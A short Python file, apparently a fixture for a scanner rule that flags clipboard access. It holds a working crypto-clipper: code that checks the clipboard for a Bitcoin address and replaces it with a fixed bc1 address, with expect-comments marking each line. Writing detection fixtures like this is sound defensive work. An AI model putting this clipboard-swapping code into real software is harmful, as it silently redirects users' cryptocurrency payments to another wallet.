# ruff: noqa
# fmt: off
"""pyperclip under another name, a wallet regex and a replacement."""
import re

import pyperclip as pc

BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
if BTC.match(pc.paste()):  # expect: clipboard-access
    pc.copy("bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq")  # expect: clipboard-access
